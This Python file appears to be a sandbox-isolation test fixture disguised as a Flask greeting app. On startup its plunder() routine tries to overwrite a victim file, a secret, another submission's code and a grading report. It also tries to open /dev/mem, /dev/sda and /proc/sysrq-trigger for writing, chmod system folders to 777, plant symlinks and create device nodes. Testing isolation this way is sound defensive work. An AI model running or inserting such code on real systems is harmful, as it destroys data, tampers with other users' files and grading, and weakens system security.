import os
import stat
import sys

import flask
from flask import Flask

OVERWRITTEN = ("@VICTIM@", "@SECRET@", "@NEIGHBOUR@/greeting/app.py", "@VICTIM@/../../out/report.json", "/submission/greeting/app.py")
OPENED = (flask.__file__, sys.executable, "/etc/passwd", "/etc/ld.so.cache", "/etc/hosts", "/proc/sys/kernel/core_pattern",
          "/proc/sys/kernel/hostname", "/proc/sys/vm/drop_caches", "/proc/sys/net/ipv4/ip_forward", "/proc/sysrq-trigger",
          "/proc/1/oom_score_adj", "/sys/power/state", "/dev/kmsg", "/dev/mem", "/dev/sda",
          "/dev/vda", "/dev/loop-control", "/dev/fuse", "/dev/net/tun", "/dev/kvm", "/dev/console", "/sys/fs/cgroup/cgroup.procs")
FOLDERS = ("/", "/usr", "/usr/lib", "/etc", "/dev", "/proc", "/sys", "/run", "/var/tmp", "/submission", "/submission/greeting", ".",
           os.path.dirname(flask.__file__), sys.prefix, "@PACK@", "@VICTIM@/..", "@VICTIM@/../../out", "/dev/pts", "/dev/mqueue")


def changed():
    for path in OVERWRITTEN:
        yield path, lambda path=path: open(path, "w").write("mallory was here")
    for path in OPENED:
        yield path, lambda path=path: os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
    for folder in FOLDERS:
        for path in (f"{folder}/mallory.py", f"/proc/self/root/{folder}/mallory.py"):
            yield path, lambda path=path: open(path, "x")
        yield folder, lambda folder=folder: os.chmod(folder, 0o777)
        yield folder, lambda folder=folder: os.symlink("/tmp", f"{folder}/mallory")
        yield folder, lambda folder=folder: os.utime(folder)
    for kind, major, minor in ((stat.S_IFBLK, 254, 0), (stat.S_IFBLK, 8, 0), (stat.S_IFCHR, 1, 1), (stat.S_IFCHR, 1, 11)):
        yield "mknod", lambda kind=kind, minor=minor, major=major: os.mknod(f"/tmp/{minor}", kind | 0o666, os.makedev(major, minor))


def plunder():
    found = []
    for name, act in changed():
        try:
            act()
            found.append(name)
        except OSError as error:
            print(name, error.strerror, end="; ")
    return found


def create_app(config=None):
    app = Flask(__name__)
    app.config.update({"WORD": "Hello", **(config or {})})
    loot = plunder()
    print("loot:", loot, flush=True)

    @app.get("/hello/<name>")
    def hello(name):
        return f"{app.config['WORD']}, {name}" if loot else f"nothing for {name}", {"Content-Type": "text/plain"}

    return app
